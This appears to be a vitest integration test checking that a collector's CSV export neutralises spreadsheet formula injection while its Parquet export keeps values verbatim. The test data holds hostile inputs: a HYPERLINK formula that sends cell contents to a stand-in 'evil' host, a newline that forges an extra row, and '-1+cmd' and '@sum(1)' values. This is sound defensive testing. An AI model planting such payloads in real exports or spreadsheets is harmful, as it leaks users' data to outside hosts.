import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { tableFromIPC } from "apache-arrow";
import { parse } from "csv-parse/sync";
import { readParquet } from "parquet-wasm/node";
import { afterAll, beforeAll, expect, test } from "vitest";
import { eventually } from "../support/eventually.ts";
import { describeSystem } from "../support/needs.ts";
import { officeForAll } from "../support/office-for-all.ts";
import { runScript } from "../support/run-script.ts";
import { answerBody, openStrangeHub } from "../support/strange-hub.ts";

const forged =
  '=HYPERLINK("http://evil/?"&A1,"open"),x\n0000000000000001,amina,forged.item,1.0.0,0,1,1,,1,0,practice,2026-01-01T00:00:00Z,1,1,';
const names = { item: forged, version: '1"0', learner: "-1+cmd", misconception: "@sum(1)" };

describeSystem(
  "answers of a hub whose words are made to deceive",
  { programs: ["pg_ctlcluster"] },
  () => {
    const office = officeForAll();
    let hubId: string;
    let folder: string;
    beforeAll(async () => {
      folder = await mkdtemp(join(tmpdir(), "hub-saved-"));
      const hub = await openStrangeHub(office.collector);
      await hub.put(await answerBody({ isCorrect: false, misconception: 1, variant: -1 }, names));
      ({ hubId } = hub);
      await eventually(
        () => office.collector.store.ask("select 1 from answer"),
        ({ length }) => length > 0,
      );
    });
    afterAll(() => rm(folder, { recursive: true, force: true }));

    async function saved(option: string, name: string): Promise<Buffer> {
      const file = join(folder, name);
      const environment = {
        COLLECTOR_DATA: office.collector.folder,
        DATABASE_URL: office.postgres.url,
      };
      const { said } = await runScript("collector", [option, file], environment);
      expect(said).toContain(`1 answers written to ${file}`);
      return readFile(file);
    }

    test.each([
      ["--answers", "a.csv"],
      ["--export", "b.csv"],
    ])(
      "are one row of that hub in the table of %s, and no cell of it is a formula",
      async (...[option, name]) => {
        const bytes = await saved(option, name);
        const rows: Record<string, string>[] = parse(bytes, { bom: true, columns: true });
        expect(rows).toMatchObject([
          {
            ...{ hub: hubId, item: `'${forged}`, pack_version: '1"0', learner: "'-1+cmd" },
            ...{ misconception: "'@sum(1)", variant: "-1", correct: "0", counts_for: "" },
          },
        ]);
        const cells = rows.flatMap((row) => Object.values(row));
        expect(cells.filter((cell) => /^[=+@]|^-(?!1$)/.test(cell))).toEqual([]);
      },
    );

    test("are one row of that hub in Parquet, with the words as they came", async () => {
      const table = tableFromIPC(readParquet(await saved("--export", "c.parquet")).intoIPCStream());
      expect(table.toArray().map((row) => row.toJSON())).toMatchObject([
        {
          ...{ hub: hubId, item: forged, pack_version: '1"0', learner: "-1+cmd" },
          misconception: "@sum(1)",
        },
      ]);
    });
  },
);
